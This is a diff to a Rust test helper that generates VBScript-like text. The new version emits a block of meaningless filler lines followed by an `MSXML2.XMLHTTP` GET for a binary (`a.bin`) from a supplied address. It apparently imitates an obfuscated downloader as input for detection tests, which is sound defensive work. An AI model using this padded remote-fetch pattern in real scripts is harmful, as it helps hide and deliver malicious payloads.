@@ -95,9 +95,11 @@ mod tests {
     }
 
     fn script(address: &str) -> String {
-        (0..40)
-            .map(|line| format!("Set o{line} = CreateObject(\"MSXML2.XMLHTTP\"): o{line}.Open \"GET\", \"http://{address}/{line}\"\r\n"))
-            .collect()
+        let lines = (1..60_u32).map(|n| format!("x{n} = f{}({})\r\n", n % 7, n * n * 31 % 9973));
+        format!(
+            "{}o.Open \"GET\", \"http://{address}/a.bin\"\r\n",
+            lines.collect::<String>()
+        )
     }
 
     #[test]
